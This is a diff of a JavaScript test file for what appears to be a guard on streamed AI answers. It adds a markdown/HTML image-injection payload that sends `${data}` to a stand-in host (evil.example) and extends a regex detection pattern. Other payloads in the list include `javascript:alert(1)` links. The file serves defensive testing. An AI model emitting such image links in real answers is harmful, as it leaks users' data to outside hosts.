@@ -42,6 +42,7 @@ const joining = [
   `[x]: a.png\n\n![EMAIL] and\n\na@b.io: ${evil}`,
   `[picture withheld]: ${evil}\n\n![x]![a](https://evil.example/x.png)`,
   `![x <b!\n\nso\n\n<img src="${evil}"> y](${evil})`,
+  `<img ![a](https://evil.example/x.png)(//evil.example/?q=${data})> src="${evil}">`,
   `![a](https://evil.example/x.png)(//evil.example/?q=${data})`,
   "![a](https://evil.example/x.png)(javascript:alert(1))",
   '<img src="https://evil.example/x.png">(javascript:alert(1))',
@@ -78,7 +79,7 @@ describe("an answer on its way through its guards", function () {
       for (const lengths of [[1], [2], [7], [400]]) {
         const out = (await throughGate(cut(text, lengths), output)).left.join("");
         expect(out, `${text}\n${out}`).to.not.match(
-          /!\[(?:(?!\n\n)[^\]])*\]\((?:https|\/\/)|\]\(\/\/evil.example\/\?|\]\(javascript|\]: javascript|!\[EMAIL\][\s\S]*\]: https|\]: https[\s\S]*!\[EMAIL\]|!\[x\]\[|<script|<img x="\[/u,
+          /!\[(?:(?!\n\n)[^\]])*\]\((?:https|\/\/)|\]\(\/\/evil.example\/\?|\]\(javascript|\]: javascript|!\[EMAIL\][\s\S]*\]: https|\]: https[\s\S]*!\[EMAIL\]|!\[x\]\[|<script|<img x="\[|<img [^>]*src/u,
         );
         if (text.includes("![x")) expect(out).to.not.match(/!\[x(?:(?!\n\n)[^\]])*\[[^\]]*\](?:(?!\n\n)[^\]])*\]\(https/u);
       }
